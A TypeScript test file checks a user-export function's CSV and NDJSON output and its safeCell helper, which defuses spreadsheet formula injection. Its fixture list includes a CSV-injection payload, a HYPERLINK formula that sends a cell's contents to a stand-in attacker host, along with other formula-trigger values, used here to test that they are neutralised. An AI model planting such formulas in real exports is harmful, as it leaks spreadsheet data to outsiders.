import { parse } from 'csv-parse/sync';
import { afterAll, describe, expect, it } from 'vitest';
import { backends, postBatch, startCollector, trackEvent } from '../../test/support.js';
import { NOW, SAAS_CONFIG } from '../../../core/test/saas-config.js';
import type { Collector } from '../create-collector.js';
import { exportUsers, safeCell, type ExportFormat } from './export-users.js';

const backend = backends()[0]!;
afterAll(() => backend.cleanup());

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  'a,b',
  'say "hi"',
  'line1\nline2\r\nline3',
  '+1',
  '@SUM(1)',
  '-2+3',
];

async function run(c: Collector, format: ExportFormat): Promise<string> {
  let text = '';
  await exportUsers(c.context, { format, write: (chunk) => (text += chunk) });
  return text;
}

async function seeded(): Promise<Collector> {
  const c = await startCollector(backend, { config: SAAS_CONFIG, now: () => NOW });
  await postBatch(c, [
    ...HOSTILE.map((userId, i) => ({ type: 'identify', userId, traits: { name: userId, n: i }, messageId: `h${i}` })),
    ...Array.from({ length: 5 }, () => trackEvent({ userId: 'a,b' })),
    trackEvent({ userId: 'a,b', event: 'Payment Failed' }),
    trackEvent({ userId: null, anonymousId: 'visitor' }),
  ]);
  return c;
}

describe('exportUsers', () => {
  it('writes CSV that parses back to every identified user, with formula cells defused', async () => {
    const c = await seeded();
    const rows = parse(await run(c, 'csv'), { columns: true }) as Record<string, string>[];
    expect(Object.keys(rows[0]!)).toEqual([
      'userId',
      'score',
      'band',
      'modelId',
      'points',
      'inactivity',
      'signal:projects',
      'signal:invites',
      'signal:core',
      'signal:minutes',
      'signal:billing',
      'traits',
    ]);
    expect(rows.map((r) => r.userId).sort()).toEqual(HOSTILE.map(safeCell).sort());
    for (const r of rows) expect(r.userId).not.toMatch(/^[=+\-@]/);
    const ab = rows.find((r) => r.userId === 'a,b')!;
    expect(ab).toMatchObject({ score: '7', band: 'low', modelId: 'saas', points: '10', 'signal:projects': '20' });
    expect(ab['signal:billing']).toBe('-10');
    expect(JSON.parse(ab.traits!)).toEqual({ name: 'a,b', n: 1 });
    expect(rows.find((r) => r.userId === 'line1\nline2\r\nline3')).toBeDefined();
    expect(rows.find((r) => r.userId === '\'=HYPERLINK("http://evil.example/?"&A1,"click")')).toBeDefined();
    await c.close();
  });

  it('writes NDJSON with the exact values and contributions by signal', async () => {
    const c = await seeded();
    const lines = (await run(c, 'ndjson')).trimEnd().split('\n');
    const users = lines.map((l) => JSON.parse(l) as { userId: string; contributions: Record<string, number> });
    expect(users.map((u) => u.userId).sort()).toEqual([...HOSTILE].sort());
    const engagement = {
      score: 7,
      band: 'low',
      modelId: 'saas',
      points: 10,
      contributions: { projects: 20, invites: 0, core: 0, minutes: 0, billing: -10 },
      inactivity: 0,
    };
    expect(users.find((u) => u.userId === 'a,b')).toEqual({
      userId: 'a,b',
      ...engagement,
      scores: { engagement },
      traits: { name: 'a,b', n: 1 },
    });
    await c.close();
  });

  it('writes one column set per score: the default unprefixed, the others prefixed with their id', async () => {
    const churn = {
      id: 'churn',
      windowDays: 30,
      signals: [{ id: 'failures', event: 'Payment Failed', weight: 50 }],
      scale: { maxPoints: 100 },
      bands: [
        { id: 'calm', min: 0 },
        { id: 'at-risk', min: 50 },
      ],
    };
    const config = {
      scores: [
        { id: 'engagement', label: 'Engagement', direction: 'higher-is-better' as const, models: SAAS_CONFIG.models! },
        { id: 'churnRisk', label: 'Churn risk', direction: 'higher-is-worse' as const, models: [churn] },
      ],
    };
    const c = await startCollector(backend, { config, now: () => NOW });
    await postBatch(c, [trackEvent({ userId: 'u1' }), trackEvent({ userId: 'u1', event: 'Payment Failed' })]);
    const [header, row] = parse(await run(c, 'csv')) as string[][];
    expect(header?.slice(0, 6)).toEqual(['userId', 'score', 'band', 'modelId', 'points', 'inactivity']);
    expect(header?.slice(-7)).toEqual([
      'churnRisk.score',
      'churnRisk.band',
      'churnRisk.modelId',
      'churnRisk.points',
      'churnRisk.inactivity',
      'churnRisk.signal:failures',
      'traits',
    ]);
    const cell = (name: string) => row?.[header!.indexOf(name)];
    expect([cell('band'), cell('churnRisk.score'), cell('churnRisk.band'), cell('churnRisk.signal:failures')]).toEqual([
      'low',
      '50',
      'at-risk',
      '50',
    ]);
    await c.close();
  });
});

describe('safeCell', () => {
  it('prefixes what a spreadsheet would run as a formula, and nothing else', () => {
    expect(['=1', '+1', '-1', '@x', '\tx', '\rx', 'x=1', 'plain'].map(safeCell)).toEqual([
      "'=1",
      "'+1",
      "'-1",
      "'@x",
      "'\tx",
      "'\rx",
      'x=1',
      'plain',
    ]);
  });
});
